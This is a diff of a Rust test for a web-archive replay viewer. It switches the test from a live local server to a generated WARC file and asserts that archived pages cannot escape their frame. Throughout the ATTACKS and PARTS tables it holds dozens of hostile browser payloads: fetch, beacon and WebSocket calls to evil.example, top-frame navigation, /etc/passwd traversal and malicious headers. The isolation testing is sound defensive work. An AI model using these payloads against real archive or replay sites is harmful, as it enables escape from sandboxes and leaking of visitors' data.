@@ -7,7 +7,6 @@ use std::time::Duration;
 
 use crate::crawled::Archive;
 use crate::viewer::{Serving, Viewer};
-use crate::web::{Asked, Reply, Web, html, redirect, status};
 
 /// An archived page, and what must be true in its frame after it has tried.
 struct Attack {
@@ -35,7 +34,7 @@ const ATTACKS: [Attack; 36] = [
     attack("srcdoc", "<iframe srcdoc='<img src=http://evil.example/a><script>top.location=\"http://evil.example/\";parent.framed=location.href;parent.parent.location=\"http://evil.example/\"</script>'></iframe>", "window.framed !== undefined"),
     attack("workers", "<script>const text = `try { importScripts('http://evil.example/a') } catch (e) {} fetch('http://evil.example/b').catch(() => 0); try { new WebSocket('ws://evil.example/') } catch (e) {} postMessage('tried')`;
         new Worker(URL.createObjectURL(new Blob([text]))).onmessage = () => { window.worked = 1 }; new Worker('/worker.js').onmessage = (event) => { window.told = event.data };
-        try { new SharedWorker('http://evil.example/c') } catch (e) {}</script>", "new Promise((done) => { const wait = () => window.worked && window.told ? done(window.told.startsWith('http://127.0.0.1') && window.told.endsWith('/worker.js')) : setTimeout(wait, 10); wait(); })"),
+        try { new SharedWorker('http://evil.example/c') } catch (e) {}</script>", "new Promise((done) => { const wait = () => window.worked && window.told ? done(window.told === 'http://archived.example/worker.js') : setTimeout(wait, 10); wait(); })"),
     attack("service workers", "<iframe></iframe><script>const own = frames[0].navigator.serviceWorker; window.tried = own.register(document.querySelector('script').baseURI + 'worker.js').then(() => 'registered', () => 'refused');
         window.more = own.register('/web/20200101000000js_/' + location.origin + '/worker.js', {scope: '/web/'}).then(() => 'registered', () => 'refused')</script>",
         "Promise.all([window.tried, window.more]).then((both) => both.join() === 'refused,refused')"),
@@ -55,7 +54,7 @@ const ATTACKS: [Attack; 36] = [
     attack("sockets", "<iframe></iframe><script>const tried = (way) => { try { way() } catch (e) {} }; for (const view of [window, frames[0]]) { tried(() => new view.WebSocket('ws://evil.example/a')); tried(() => new view.EventSource('http://evil.example/b')); tried(() => view.navigator.sendBeacon('http://evil.example/c', 'x')); tried(() => new view.WebTransport('https://evil.example/d')); tried(() => view.fetch('http://evil.example/e', {mode: 'no-cors', keepalive: true}).catch(() => 0)) }</script>", "typeof RTCPeerConnection === 'undefined'"),
     attack("written markup", "<script>document.write('<img src=\"http://evil.example/a\">'); document.write('<img sr'); document.write('c=http://evil.example/b>'); document.writeln('<scr' + 'ipt src=//evil.example/c></scr' + 'ipt>')</script>", ""),
     attack("blob pages", "<script>const page = new Blob(['<img src=http://evil.example/a><script>fetch(\"http://evil.example/b\");top.location=\"http://evil.example/\"</' + 'script>'], {type: 'text/html'}); const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(page); document.documentElement.append(frame)</script>", ""),
-    attack("history", "<script>try { history.pushState({}, '', 'http://evil.example/') ; window.pushed = 1 } catch (e) { window.pushed = e.name } history.pushState({}, '', '/elsewhere'); for (let i = 0; i < 50; i++) location.hash = i; history.back(); history.forward()</script>", "window.pushed === 'SecurityError' && document.URL.includes('/elsewhere') && location.host.startsWith('127.0.0.1')"),
+    attack("history", "<script>try { history.pushState({}, '', 'http://evil.example/') ; window.pushed = 1 } catch (e) { window.pushed = e.name } history.pushState({}, '', '/elsewhere'); for (let i = 0; i < 50; i++) location.hash = i; history.back(); history.forward()</script>", "window.pushed === 'SecurityError' && document.URL.startsWith('http://archived.example/elsewhere')"),
     attack("climbing", "<img src=/../../../../etc/passwd><img src=../../../../../../_perennial/x><script>fetch('/..%2f..%2fetc/passwd'); fetch('/%2e%2e/web/x').then((answer) => { window.climbed = answer.status })</script>", "new Promise((done) => { const wait = () => window.climbed ? done(window.climbed >= 400) : setTimeout(wait, 10); wait(); })"),
     attack("set by scripts", "<p id=p></p><script>new Image().src = 'http://evil.example/a'; p.innerHTML = '<img src=//evil.example/b><img srcset=\"http://evil.example/c 1x\">'; p.insertAdjacentHTML('beforeend', '<img src=http://evil.example/d>'); const i = document.createElement('img'); i.setAttribute('src', 'http://evil.example/e'); const s = document.createElement('script'); s.src = 'http://evil.example/f'; document.head.append(i, s); const x = new XMLHttpRequest(); x.open('GET', 'http://evil.example/g'); x.send()</script>", ""),
     attack("a clean frame", "<iframe></iframe><script>const clean = frames[0]; clean.fetch('http://evil.example/a').catch(() => 0); new clean.Image().src = 'http://evil.example/b'; const made = clean.document.createElement('img'); clean.Element.prototype.setAttribute.call(made, 'src', 'http://evil.example/c'); document.documentElement.append(made); const frame = clean.document.createElement('iframe'); clean.Element.prototype.setAttribute.call(frame, 'src', 'http://evil.example/d'); document.documentElement.append(frame)</script>", ""),
@@ -70,65 +69,75 @@ const ATTACKS: [Attack; 36] = [
     attack("a sandbox within", "<iframe sandbox='allow-scripts' srcdoc='<script>fetch(\"http://evil.example/a\").catch(() => 0); top.location = \"http://evil.example/\"</script>'></iframe><iframe sandbox='allow-scripts allow-top-navigation allow-popups' src=/sandboxed></iframe>", ""),
 ];
 
-fn served(asked: &Asked) -> Reply {
-    let typed = |mime: &str, body: &str| {
-        Reply::Page(200, vec![("Content-Type", mime.to_string())], body.as_bytes().to_vec())
-    };
-    if let Some(attack) = asked.path.strip_prefix("/attack/").and_then(|index| index.parse::<usize>().ok()) {
-        let page = ATTACKS[attack].page;
-        return html(&format!("<title>trying</title>{page}<script>setTimeout(() => {{ document.title = 'done' }}, 60)</script>"));
+/// The host of the pages; it was never there.
+const HOST: &str = "http://archived.example";
+
+/// What the archive holds of it beside the attacks: path, fields, body.
+const PARTS: [(&str, &str, &str); 7] = [
+    ("/worker.js", "Content-Type: text/javascript", "if (typeof importScripts === 'function') { fetch('http://evil.example/w').catch(() => 0); postMessage(location.href) }"),
+    ("/drawing.svg", "Content-Type: image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.drawn = 1; fetch('http://evil.example/')</script><image href='http://evil.example/x'/></svg>"),
+    ("/style.xml", "Content-Type: text/xml", "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?><a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>parent.run = 1; fetch('http://evil.example/')</h:script></a>"),
+    ("/sandboxed", "Content-Type: text/html", "<script>try { top.location = 'http://evil.example/' } catch (e) {} try { open('http://evil.example/') } catch (e) {}</script>"),
+    ("/", "Content-Type: text/html", "<title>done</title><p>Home</p>"),
+    ("/secret", "Content-Type: text/html", "<title>done</title><script>localStorage.setItem('secret', 'x')</script>"),
+    ("/heads", "Content-Type: text/html\r\nRefresh: 0; url=http://evil.example/r\r\nLink: <http://evil.example/l>; rel=preload; as=script, <//evil.example/s>; rel=stylesheet\r\n\
+        Set-Cookie: evil=1; path=/\r\nClear-Site-Data: \"*\"\r\nContent-Security-Policy: default-src *; report-uri http://evil.example/c\r\n\
+        Access-Control-Allow-Origin: http://evil.example", "<title>done</title><p>heads</p>"),
+];
+
+fn push_record(warc: &mut Vec<u8>, url: &str, status: &str, fields: &str, body: &str) {
+    let block = format!("HTTP/1.1 {status}\r\n{fields}\r\nContent-Length: {}\r\n\r\n{body}", body.len());
+    let head = format!(
+        "WARC/1.1\r\nWARC-Type: response\r\nWARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-{:012}>\r\n\
+         WARC-Date: 2026-01-02T03:04:05Z\r\nWARC-Target-URI: {url}\r\nContent-Type: application/http; msgtype=response\r\n\
+         Content-Length: {}\r\n\r\n",
+        warc.len(),
+        block.len()
+    );
+    warc.extend(head.as_bytes());
+    warc.extend(block.as_bytes());
+    warc.extend(b"\r\n\r\n");
+}
+
+/// All pages as a file that other tools write too: no crawler would get them, because evil.example is nowhere.
+fn warc() -> Vec<u8> {
+    let mut warc = Vec::new();
+    for (index, attack) in ATTACKS.iter().enumerate() {
+        let body = format!(
+            "<title>trying</title>{}<script>setTimeout(() => {{ document.title = 'done' }}, 60)</script>",
+            attack.page
+        );
+        push_record(&mut warc, &format!("{HOST}/attack/{index}"), "200 OK", "Content-Type: text/html; charset=utf-8", &body);
     }
-    match asked.path.as_str() {
-        "/" => {
-            let links: String = (0..ATTACKS.len()).map(|index| format!("<a href=/attack/{index}>{index}</a>")).collect();
-            html(&format!("{links}<a href=/away>a</a><a href=/heads>h</a><a href=/sandboxed>s</a><a href=/style.xml>x</a>\
-                 <img src=/drawing.svg><script src=/worker.js></script>"))
-        }
-        "/worker.js" => typed("text/javascript", "if (typeof importScripts === 'function') { fetch('http://evil.example/w').catch(() => 0); postMessage(location.href) }"),
-        "/drawing.svg" => typed("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg'><script>parent.drawn = 1; fetch('http://evil.example/')</script><image href='http://evil.example/x'/></svg>"),
-        "/style.xml" => typed("text/xml", "<?xml version='1.0'?><?xml-stylesheet type='text/xsl' href='http://evil.example/x.xsl'?><a xmlns:h='http://www.w3.org/1999/xhtml'><h:script>parent.run = 1; fetch('http://evil.example/')</h:script></a>"),
-        "/sandboxed" => html("<script>try { top.location = 'http://evil.example/' } catch (e) {} try { open('http://evil.example/') } catch (e) {}</script>"),
-        "/away" => redirect("http://evil.example/away"),
-        "/heads" => Reply::Page(
-            200,
-            vec![
-                ("Content-Type", "text/html".to_string()),
-                ("Refresh", "0; url=http://evil.example/r".into()),
-                ("Link", "<http://evil.example/l>; rel=preload; as=script, <//evil.example/s>; rel=stylesheet".into()),
-                ("Set-Cookie", "evil=1; path=/".into()),
-                ("Clear-Site-Data", "\"*\"".into()),
-                ("Content-Security-Policy", "default-src *; report-uri http://evil.example/c".into()),
-                ("Access-Control-Allow-Origin", "http://evil.example".into()),
-            ],
-            b"<title>done</title><p>heads</p>".to_vec(),
-        ),
-        _ => status(404),
+    for (path, fields, body) in PARTS {
+        let host = if path == "/secret" { "http://victim.example" } else { HOST };
+        push_record(&mut warc, &format!("{host}{path}"), "200 OK", fields, body);
     }
+    push_record(&mut warc, &format!("{HOST}/away"), "302 Found", "Location: http://evil.example/away", "");
+    warc
 }
 
 struct Ground {
-    web: Web,
-    archive: Archive,
     serving: Serving,
     viewer: Viewer,
+    _archive: Archive,
 }
 
 impl Ground {
     fn new() -> Ground {
-        let web = Web::serve(served);
         let archive = Archive::new();
-        archive.ok(&["add", &web.url("/"), "--allow-private", "--renderer", "layout"]);
-        archive.ok(&["crawl", "--once", "--delay", "0"]);
+        let file = archive.root.join("attacks.warc");
+        std::fs::write(&file, warc()).unwrap();
+        archive.ok(&["import", file.to_str().unwrap()]);
         let serving = Serving::start(&archive);
         let host = |origin: &str| origin.trim_start_matches("http://").to_string();
-        let viewer = Viewer::start(&[host(&serving.main), host(&serving.replay), web.address.to_string()]);
-        Ground { web, archive, serving, viewer }
+        let viewer = Viewer::start(&[host(&serving.main), host(&serving.replay)]);
+        Ground { serving, viewer, _archive: archive }
     }
 
     /// Looks at an archived page, and checks that nothing left it.
-    fn try_page(&mut self, name: &str, path: &str, inside: &str) {
-        let n_asked = self.web.asked().len();
-        self.viewer.visit(&format!("{}/web/29991231235959/{}", self.serving.main, self.web.url(path)));
+    fn try_page(&mut self, name: &str, address: &str, inside: &str) {
+        self.viewer.visit(&format!("{}/web/20260102030405/{address}", self.serving.main));
         for _ in 0..40 {
             if self.viewer.inside("document.title") == "done" {
                 break;
@@ -142,7 +151,6 @@ impl Ground {
                       document.cookie].join(' ')";
         assert_eq!(self.viewer.outside(around), format!("{} true 0 ", self.serving.main), "{name}");
         assert_eq!(self.viewer.escaped(), Vec::<String>::new(), "{name}");
-        assert_eq!(self.web.asked().len(), n_asked, "{name}");
     }
 
     /// What a server of ours says to a request that is written as it is.
@@ -160,24 +168,19 @@ impl Ground {
 fn nothing_gets_out_of_its_frame() {
     let mut ground = Ground::new();
     // What another archived site has stored.
-    let victim = Web::serve(|_| html("<title>done</title><script>localStorage.setItem('secret', 'x')</script>"));
-    let archive = &ground.archive;
-    archive.ok(&["add", &victim.url("/"), "--allow-private", "--renderer", "layout"]);
-    archive.ok(&["crawl", "--once", "--delay", "0"]);
-    ground.viewer.visit(&format!("{}/web/29991231235959/{}", ground.serving.main, victim.url("/")));
-    ground.viewer.until(true, "localStorage.getItem('secret') === 'x'");
+    ground.try_page("a site that stores", "http://victim.example/secret", "localStorage.getItem('secret') === 'x'");
     for (index, attack) in ATTACKS.iter().enumerate() {
-        ground.try_page(attack.name, &format!("/attack/{index}"), attack.inside);
+        ground.try_page(attack.name, &format!("{HOST}/attack/{index}"), attack.inside);
     }
-    ground.try_page("a redirect", "/away", "location.origin !== 'http://evil.example'");
-    ground.try_page("heads", "/heads", "");
-    ground.try_page("styled XML", "/style.xml", "window.run === undefined");
+    ground.try_page("a redirect", &format!("{HOST}/away"), "location.origin !== 'http://evil.example'");
+    ground.try_page("heads", &format!("{HOST}/heads"), "");
+    ground.try_page("styled XML", &format!("{HOST}/style.xml"), "window.run === undefined");
     held_heads(&ground);
 }
 
 /// Requests that no browser makes.
 fn held_heads(ground: &Ground) {
-    let (main, replay, page) = (&ground.serving.main, &ground.serving.replay, ground.web.url("/heads"));
+    let (main, replay, page) = (&ground.serving.main, &ground.serving.replay, format!("{HOST}/heads"));
     let get = |path: &str, more: &str| format!("GET {path} HTTP/1.1\r\nHost: 127.0.0.1\r\n{more}Connection: close\r\n\r\n");
     for origin in [main, replay] {
         let answer = ground.raw(origin, &get(&format!("/web/2999mp_/{page}"), "")).to_lowercase();
@@ -194,7 +197,7 @@ fn held_heads(ground: &Ground) {
         let shown = ground.raw(origin, &get("/web/2020/http://xn--80ak6aa92e.example/<script>x</script>", ""));
         assert!(shown.contains("xn--80ak6aa92e.example") && !shown.contains("<script>x"), "{shown}");
     }
-    let registered = ground.raw(replay, &get(&format!("/web/2999js_/{}", ground.web.url("/worker.js")), "Service-Worker: script\r\n"));
+    let registered = ground.raw(replay, &get(&format!("/web/2999js_/{}", format!("{HOST}/worker.js")), "Service-Worker: script\r\n"));
     assert!(registered.starts_with("HTTP/1.1 400"), "{registered}");
     let bare = ground.raw(replay, &get(&format!("/web/2999mp_/{page}"), "Sec-Fetch-Dest: document\r\n"));
     assert!(bare.starts_with("HTTP/1.1 302") && bare.contains(&format!("location: {main}/web/")), "{bare}");
